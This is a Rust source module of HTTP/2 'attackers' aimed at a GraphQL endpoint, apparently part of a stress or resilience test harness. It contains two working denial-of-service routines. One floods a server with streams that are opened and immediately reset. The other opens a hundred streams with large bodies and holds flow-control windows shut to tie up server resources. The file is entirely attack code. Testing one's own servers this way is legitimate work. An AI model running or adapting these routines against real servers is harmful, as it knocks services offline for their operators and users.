//! Attackers who speak HTTP/2.

use super::{Target, documents};
use ::bytes::Bytes;
use h2::client::{ResponseFuture, SendRequest};
use hyper::Request;
use std::time::Duration;
use tokio::net::TcpStream;

async fn connected(target: &Target) -> Option<SendRequest<Bytes>> {
    let stream = TcpStream::connect(target.addr).await.ok()?;
    let (requests, connection) = h2::client::handshake(stream).await.ok()?;
    tokio::spawn(async { drop(connection.await) });
    Some(requests)
}

fn post() -> Option<Request<()>> {
    let request = Request::post("http://x/graphql");
    request.header("content-type", "application/json").body(()).ok()
}

/// Opens streams and resets them before anybody can have answered.
pub async fn resets(target: Target) {
    loop {
        let opening = async {
            let mut requests = connected(&target).await?;
            loop {
                requests = requests.ready().await.ok()?;
                let (_, mut stream) = requests.send_request(post()?, false).ok()?;
                stream.send_reset(h2::Reason::CANCEL);
                target.hit();
                // Nothing above waits for anything: the connection's own task must have its turn.
                tokio::task::yield_now().await;
            }
        };
        let _: Option<()> = opening.await;
        tokio::task::yield_now().await;
    }
}

/// Asks for as many large answers as it may at a time, and leaves them no room.
pub async fn shut_windows(target: Target) {
    let body = documents::large();
    loop {
        let asking = async {
            let mut requests = connected(&target).await?;
            let mut held: Vec<ResponseFuture> = Vec::new();
            for _ in 0..100 {
                requests = requests.ready().await.ok()?;
                let (answer, mut stream) = requests.send_request(post()?, false).ok()?;
                stream.send_data(body.clone(), true).ok()?;
                held.push(answer);
                target.hit();
            }
            let mut answers = Vec::new();
            for answer in held {
                answers.push(answer.await.ok()?);
            }
            tokio::time::sleep(Duration::from_secs(30)).await;
            Some(())
        };
        let _: Option<()> = asking.await;
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}
